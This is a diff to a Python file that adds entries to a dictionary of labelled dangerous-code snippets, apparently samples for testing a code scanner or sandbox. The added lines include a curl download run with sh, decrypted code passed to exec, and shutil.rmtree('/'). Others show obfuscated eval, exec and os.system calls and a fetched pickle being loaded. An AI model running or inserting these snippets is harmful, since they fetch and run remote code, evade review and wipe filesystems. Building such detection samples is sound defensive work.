@@ -69,6 +69,9 @@ POWERS = {
     "a builtin backwards": "vars(builtins)['lave'[::-1]](input())",
     "a builtin of a dict": "__builtins__.__dict__['ex' + 'ec'](input())",
     "a module in pieces": "getattr(__import__('o' + 's'), 'sys' + 'tem')(input())",
+    "decrypted code": "from cryptography.fernet import Fernet\nexec(Fernet(input()).decrypt(input()))",
+    "a fetched file that is run": "subprocess.run(['curl', '-o', '/tmp/x', U])\nsubprocess.run(['sh', '/tmp/x'])",
+    "everything cleared": "shutil.rmtree('/')",
     "a fetched pickle": "pickle.loads(requests.get(U).content)",
     "a pickle's module by name": (
         "m = {'j': 'json', 'p': 'pickle'}\nr = importlib.import_module(m[input()])\n"
